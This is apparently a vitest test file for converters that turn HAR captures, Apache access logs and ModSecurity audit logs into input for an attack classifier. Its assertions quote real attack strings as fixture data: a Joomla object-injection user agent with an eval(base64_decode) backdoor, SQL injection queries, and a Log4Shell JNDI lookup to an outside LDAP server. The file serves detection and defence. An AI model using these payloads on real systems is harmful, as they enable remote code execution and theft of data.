// Each adapter on sample files the projects themselves publish (fixtures/projects/, see
// fixtures/README.md for package, version, path and licence), and on the JSON audit log the
// real libmodsecurity v3 writes. Every file converts without unexpected errors and its
// attacker-controlled strings reach the classifier's input (requestPayloads).
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { requestPayloads, type CapturedRequest } from '../schema';
import { convertCapture, guessFormat, type CaptureFormat } from './index';

const PROJECTS = join(__dirname, 'fixtures', 'projects');
const read = (dir: string, file: string) => readFileSync(join(PROJECTS, dir, file), 'utf8');
const convert = (format: CaptureFormat, dir: string, file: string) => {
  const c = convertCapture(format, read(dir, file));
  return { ...c, all: c.sessions.flatMap((s) => s.evidence.requests) };
};
const payloads = (r: CapturedRequest) => Object.fromEntries(requestPayloads(r).map((p) => [p.location, p.value]));

describe('HAR: har-examples 5.0.1 (npm, MIT), every example', () => {
  const dir = 'har-examples-5.0.1';
  const files = readdirSync(join(PROJECTS, dir)).filter((f) => f.endsWith('.har'));
  const one = (file: string) => {
    const c = convert('har', dir, file);
    expect(c.errors).toEqual([]);
    expect(c.all).toHaveLength(1);
    return c.all[0];
  };

  it('reads all twenty files without an error, and guesses their format', () => {
    expect(files).toHaveLength(20);
    for (const f of files) {
      expect(guessFormat(f, read(dir, f))).toBe('har');
      one(f);
    }
  });
  it('custom headers and cookies reach the classifier', () => {
    expect(payloads(one('headers.har'))['header.x-foo']).toBe('Bar');
    const c = payloads(one('cookies.har'));
    expect([c['cookie.foo'], c['cookie.bar']]).toEqual(['bar', 'baz']);
  });
  it('the URL query and queryString[] are both read, repeats kept, %-encoded values decoded', () => {
    const full = one('full.har');
    expect(full.query).toEqual({ key: 'value', foo: 'bar', 'foo[2]': 'baz', baz: 'abc' });
    expect(payloads(full)['body.foo']).toBe('bar');
    const enc = one('query-encoded.har');
    expect(enc.query.stringWeird).toBe('properties["$email"] == "testing"');
    expect(enc.query.stringArray).toBe('where[4]=10');
    // The sample's one `array` parameter holds an encoded query of its own: decoded once, as a server would.
    expect(enc.query.array).toBe('something&nothing=true&array=nothing&something=false&array=another item');
  });
  it('JSON bodies are flattened, form and multipart fields and file names read', () => {
    const json = payloads(one('application-json.har'));
    expect(json['body.string']).toBe('f"oo');
    expect(json['body.nested.a']).toBe('b');
    expect(payloads(one('application-form-encoded.har'))).toMatchObject({ 'body.foo': 'bar', 'body.hello': 'world' });
    expect(payloads(one('multipart-file.har'))['body.foo.filename']).toBe('file/path/to/hello.txt');
    expect(payloads(one('multipart-data.har'))['body.foo.filename']).toBe('hello.txt');
  });
});

describe('combined: apachelogs 0.6.1 (PyPI, MIT)', () => {
  const dir = 'apachelogs-0.6.1';
  it('reads test/data/vhost_combined.log (Apache vhost_combined) and reports its "Bad line" by number', () => {
    const c = convert('combined', dir, 'vhost_combined.log');
    expect(c.accepted).toBe(6);
    expect(c.errors).toEqual([{ at: 'line 5', message: expect.stringContaining('not a combined') }]);
    const post = c.all.find((r) => r.method === 'POST')!;
    expect(post).toMatchObject({ clientIp: '203.62.1.80', path: '/App6079ec68.php', statusCode: 301, timestamp: Date.parse('2019-05-06T06:28:21Z') });
    expect(post.headers.host).toBe('www.varonathe.org');
    expect(guessFormat('other_vhosts_access.log', read(dir, 'vhost_combined.log'))).toBe('combined');
  });
  it('reads the test suite lines: the Joomla object-injection user agent arrives decoded at the classifier', () => {
    const c = convert('combined', dir, 'test_parse-lines.log');
    expect(c.errors).toEqual([]);
    expect(c.all[0]).toMatchObject({ clientIp: '209.126.136.4', statusCode: 301, timestamp: Date.parse('2017-11-01T07:28:29Z') });
    const attack = c.all.find((r) => r.clientIp === '185.234.218.71')!;
    const ua = payloads(attack)['header.user-agent'];
    expect(ua).toContain('O:21:"JDatabaseDriverMysqli"');
    expect(ua).toContain('eval(base64_decode($_POST[111]));JFactory::get();exit;');
    expect(ua).toContain('s:4:"\\0\\0\\0a"');
    expect(ua.endsWith('\u{1D306}')).toBe(true); // \xf0\x9d\x8c\x86 as the bytes Apache escaped
  });
});

describe('modsec-audit: the JSON audit log libmodsecurity 3.0.9 writes (fixtures/projects/libmodsecurity-3.0.9)', () => {
  const c = convert('modsec-audit', 'libmodsecurity-3.0.9', 'modsec_audit.json');
  it('reads every transaction, its rule ids and its request as the engine recorded it', () => {
    expect(c.errors).toEqual([]);
    expect(c.all).toHaveLength(4);
    const get = c.all.find((r) => r.path === '/products')!;
    expect(get).toMatchObject({ method: 'GET', clientIp: '127.0.0.1', tags: ['modsec:1001'], query: { id: '1 UNION SELECT password FROM users--' } });
    const post = c.all.find((r) => r.method === 'POST')!;
    expect(payloads(post)['body.pass']).toBe("x' union select 1--");
    const jndi = c.all.find((r) => r.tags?.includes('modsec:1002'))!;
    expect(payloads(jndi)['header.user-agent']).toBe('${jndi:ldap://198.51.100.9:1389/a}');
    expect(guessFormat('modsec_audit.json', read('libmodsecurity-3.0.9', 'modsec_audit.json'))).toBe('modsec-audit');
  });
});
